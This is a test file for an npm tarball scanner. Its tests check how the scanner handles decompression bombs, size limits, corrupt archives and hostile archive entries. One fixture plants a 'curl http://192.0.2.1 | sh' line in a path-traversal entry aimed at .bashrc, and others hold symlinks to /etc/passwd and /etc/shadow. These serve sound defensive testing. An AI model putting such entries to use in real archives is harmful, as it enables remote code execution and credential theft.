import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { readTar } from '../../src/artifact/tar.js';
import { BeagleError } from '../../src/core/errors.js';
import { type ReadLimits, withLimits } from '../../src/core/limits.js';
import { scan } from '../../src/scan.js';
import { benignPackageFiles, makeTarball, packageJson } from '../helpers/archives.js';

const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-tar-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

let counter = 0;
function writeTmp(data: Buffer, name = `fixture-${++counter}.tgz`): string {
  const file = path.join(tmp, name);
  writeFileSync(file, data);
  return file;
}

function read(data: Buffer, limits: Partial<ReadLimits> = {}) {
  return readTar(data, { limits: withLimits(limits), stripRoot: true, label: 'fixture.tgz' });
}

async function expectBeagleError(p: Promise<unknown>, code: string): Promise<BeagleError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err, `expected a BeagleError ${code}`).toBeInstanceOf(BeagleError);
  expect((err as BeagleError).code).toBe(code);
  return err as BeagleError;
}

describe('readTar: well-formed npm tarball', () => {
  it('reads files in memory with the package/ root stripped and modes kept', async () => {
    const data = await makeTarball([
      { name: 'package/package.json', content: packageJson() },
      { name: 'package/lib/index.js', content: 'module.exports = 1;\n', mode: 0o755 },
      { name: 'package/lib', type: 'directory' },
    ]);
    const r = await read(data);
    expect(r.files.map((f) => f.path).sort()).toEqual(['lib/index.js', 'package.json']);
    const js = r.files.find((f) => f.path === 'lib/index.js')!;
    expect(js.data.toString()).toBe('module.exports = 1;\n');
    expect(js.kind).toBe('text');
    expect(js.mode! & 0o777).toBe(0o755);
    expect(r.findings).toEqual([]);
    expect(r.bytes).toBe(js.size + r.files.find((f) => f.path === 'package.json')!.size);
  });

  it('reads an uncompressed tar too', async () => {
    const r = await read(await makeTarball(benignPackageFiles(), { gzip: false }));
    expect(r.files.map((f) => f.path)).toContain('index.js');
  });
});

describe('readTar: decompression bombs and size limits', () => {
  it('refuses a gzip bomb by ratio with BeagleError limit', async () => {
    // 8 MiB of zeros gzips to a few KiB: far over the 200x ratio.
    const data = await makeTarball({ 'package.json': packageJson(), 'zeros.bin': Buffer.alloc(8 << 20) });
    expect(data.length).toBeLessThan(64 * 1024);
    const err = await expectBeagleError(read(data), 'limit');
    expect(err.message).toMatch(/decompression bomb|ratio/);
  });

  it('refuses content over the total-size limit even when it compresses poorly', async () => {
    const random = Buffer.alloc(3 << 20);
    for (let i = 0; i < random.length; i += 4) random.writeUInt32LE((Math.random() * 2 ** 32) >>> 0, i);
    const data = await makeTarball({ 'package.json': packageJson(), 'noise.bin': random });
    await expectBeagleError(read(data, { maxTotalBytes: 2 << 20, maxFileBytes: 4 << 20 }), 'limit');
  });

  it('refuses an uncompressed tar whose files add up over the total limit', async () => {
    const files: Record<string, Buffer | string> = { 'package.json': packageJson() };
    for (let i = 0; i < 5; i++) files[`part${i}.txt`] = Buffer.alloc(300_000, 0x61);
    const data = await makeTarball(files, { gzip: false });
    await expectBeagleError(read(data, { maxTotalBytes: 1_000_000 }), 'limit');
  });

  it('a bomb makes scan() report verdict error with code limit, never clean', async () => {
    const file = writeTmp(
      await makeTarball({ ...benignPackageFiles(), 'zeros.bin': Buffer.alloc(8 << 20) }),
      'bomb.tgz',
    );
    const report = await scan(file);
    expect(report.verdict).toBe('error');
    expect(report.errors.map((e) => e.code)).toEqual(['limit']);
    expect(report.package).toBeUndefined();
  });

  it('refuses archives with more entries than the limit', async () => {
    const files: Record<string, string> = { 'package.json': packageJson() };
    for (let i = 0; i < 20; i++) files[`f${i}.js`] = `// ${i}\n`;
    const data = await makeTarball(files);
    const err = await expectBeagleError(read(data, { maxEntries: 10 }), 'limit');
    expect(err.message).toMatch(/more than 10 entries/);
    // At the limit it is fine.
    await expect(read(data, { maxEntries: 21 })).resolves.toBeTruthy();
  });

  it('skips a single oversize file with ARC-005 and a warning, keeping the rest', async () => {
    const data = await makeTarball({
      'package.json': packageJson(),
      'big.js': 'x'.repeat(5000),
      'small.js': 'module.exports = 1;\n',
    });
    const r = await read(data, { maxFileBytes: 1000 });
    expect(r.files.map((f) => f.path).sort()).toEqual(['package.json', 'small.js']);
    const arc = r.findings.filter((f) => f.ruleId === 'ARC-005');
    expect(arc).toHaveLength(1);
    expect(arc[0]!.file).toBe('big.js');
    expect(arc[0]!.evidence).toEqual({ size: 5000 });
    expect(r.warnings.join('\n')).toMatch(/big\.js: skipped/);
  });
});

describe('readTar: hostile entries', () => {
  it('reports `..` and absolute paths as ARC-001 and never reads them', async () => {
    const data = await makeTarball([
      { name: 'package/package.json', content: packageJson() },
      { name: 'package/../../.bashrc', content: 'curl http://192.0.2.1 | sh\n' },
      { name: '/etc/cron.d/evil', content: '* * * * * root true\n' },
      { name: 'package/ok.js', content: '1;\n' },
    ]);
    const r = await read(data);
    expect(r.files.map((f) => f.path).sort()).toEqual(['ok.js', 'package.json']);
    const arc = r.findings.filter((f) => f.ruleId === 'ARC-001');
    expect(arc.map((f) => f.file).sort()).toEqual(['/etc/cron.d/evil', 'package/../../.bashrc']);
    expect(arc.every((f) => f.severity === 'high')).toBe(true);
    expect(r.files.some((f) => f.data.toString().includes('192.0.2.1'))).toBe(false);
  });

  it('reports symlinks and hardlinks as ARC-002 without following them', async () => {
    const data = await makeTarball([
      { name: 'package/package.json', content: packageJson() },
      { name: 'package/passwd', type: 'symlink', linkname: '../../../../etc/passwd' },
      { name: 'package/shadow', type: 'link', linkname: '/etc/shadow' },
      { name: 'package/alias.js', type: 'symlink', linkname: 'index.js' },
      { name: 'package/index.js', content: 'module.exports = 1;\n' },
    ]);
    const r = await read(data);
    expect(r.files.map((f) => f.path).sort()).toEqual(['index.js', 'package.json']);
    const links = r.findings.filter((f) => f.ruleId === 'ARC-002');
    const byFile = Object.fromEntries(links.map((f) => [f.file, f]));
    expect(Object.keys(byFile).sort()).toEqual(['alias.js', 'passwd', 'shadow']);
    expect(byFile.passwd!.severity).toBe('high');
    expect(byFile.passwd!.evidence).toMatchObject({
      linkTarget: '../../../../etc/passwd',
      linkType: 'symlink',
    });
    expect(byFile.shadow!.severity).toBe('high');
    expect(byFile.shadow!.evidence).toMatchObject({ linkType: 'link' });
    // An internal link is still reported, at the rule's default severity.
    expect(byFile['alias.js']!.severity).toBe('medium');
  });

  it('reports device and FIFO entries as ARC-003', async () => {
    const data = await makeTarball([
      { name: 'package/package.json', content: packageJson() },
      { name: 'package/null', type: 'character-device' },
      { name: 'package/disk', type: 'block-device' },
      { name: 'package/pipe', type: 'fifo' },
    ]);
    const r = await read(data);
    expect(r.files.map((f) => f.path)).toEqual(['package.json']);
    expect(
      r.findings
        .filter((f) => f.ruleId === 'ARC-003')
        .map((f) => f.file)
        .sort(),
    ).toEqual(['disk', 'null', 'pipe']);
  });

  it('reports duplicates with different content as ARC-004 and analyses the last copy', async () => {
    const data = await makeTarball([
      { name: 'package/package.json', content: packageJson() },
      { name: 'package/index.js', content: 'module.exports = "reviewed";\n' },
      { name: 'package/index.js', content: 'module.exports = "installed";\n' },
      { name: 'package/same.js', content: 'same\n' },
      { name: 'package/same.js', content: 'same\n' },
    ]);
    const r = await read(data);
    const dup = r.findings.filter((f) => f.ruleId === 'ARC-004');
    expect(dup.map((f) => f.file)).toEqual(['index.js']);
    expect(r.files.filter((f) => f.path === 'index.js')).toHaveLength(1);
    expect(r.files.find((f) => f.path === 'index.js')!.data.toString()).toContain('installed');
    // Identical duplicates are not reported, and the total counts each path once.
    expect(r.bytes).toBe(r.files.reduce((n, f) => n + f.size, 0));
  });
});

describe('readTar: corrupt input', () => {
  it('rejects corrupt gzip with corrupt-archive', async () => {
    const good = await makeTarball(benignPackageFiles());
    const bad = Buffer.from(good);
    for (let i = 20; i < bad.length - 8; i += 7) bad[i] = bad[i]! ^ 0xff;
    await expectBeagleError(read(bad), 'corrupt-archive');
  });

  it('rejects truncated gzip with corrupt-archive', async () => {
    const good = await makeTarball(benignPackageFiles());
    const err = await expectBeagleError(
      read(good.subarray(0, Math.floor(good.length / 2))),
      'corrupt-archive',
    );
    expect(err.message).toMatch(/truncated|gzip/);
  });

  it('rejects a truncated tar with corrupt-archive', async () => {
    const tar = await makeTarball(
      { 'package.json': packageJson(), 'a.js': 'x'.repeat(4000) },
      { gzip: false },
    );
    // Cut inside the second file's data.
    await expectBeagleError(read(tar.subarray(0, 512 * 4)), 'corrupt-archive');
    await expectBeagleError(read(tar.subarray(0, 100)), 'corrupt-archive');
  });

  it('rejects bytes that are not a tar at all', async () => {
    await expectBeagleError(read(Buffer.alloc(2048, 0x41)), 'corrupt-archive');
  });
});

describe('npm tarball manifests via scan()', () => {
  it('a tarball without package.json is an error report (invalid-package)', async () => {
    const file = writeTmp(await makeTarball({ 'index.js': 'module.exports = 1;\n' }));
    const report = await scan(file);
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('invalid-package');
    expect(report.errors[0]!.message).toMatch(/no package\.json/);
  });

  it('an invalid package.json is an error report (invalid-package)', async () => {
    const file = writeTmp(await makeTarball({ 'package.json': '{"name": "x",', 'index.js': '1;\n' }));
    const report = await scan(file);
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('invalid-package');
    const arrayJson = writeTmp(await makeTarball({ 'package.json': '[1,2]', 'index.js': '1;\n' }));
    expect((await scan(arrayJson)).errors[0]!.code).toBe('invalid-package');
  });

  it('a package.json over the single-file limit is a limit error, not "no package.json"', async () => {
    const file = writeTmp(await makeTarball(benignPackageFiles()));
    const report = await scan(file, { limits: { maxFileBytes: 50 } });
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('limit');
    expect(report.errors[0]!.message).toMatch(/package\.json is over the single-file limit/);
  });

  it('a corrupt tarball file is an error report, never clean', async () => {
    const file = writeTmp(Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), Buffer.alloc(600, 7)]));
    const report = await scan(file);
    expect(report.verdict).toBe('error');
    expect(report.errors[0]!.code).toBe('corrupt-archive');
  });

  it('archive findings reach the report of a scanned tarball', async () => {
    const file = writeTmp(
      await makeTarball([
        ...Object.entries(benignPackageFiles()).map(([n, c]) => ({ name: `package/${n}`, content: c })),
        { name: 'package/../../escape.js', content: '1;\n' },
      ]),
    );
    const report = await scan(file);
    expect(report.verdict).not.toBe('error');
    expect(report.findings.some((f) => f.ruleId === 'ARC-001')).toBe(true);
    expect(report.package?.name).toBe('fixture-benign');
  });
});
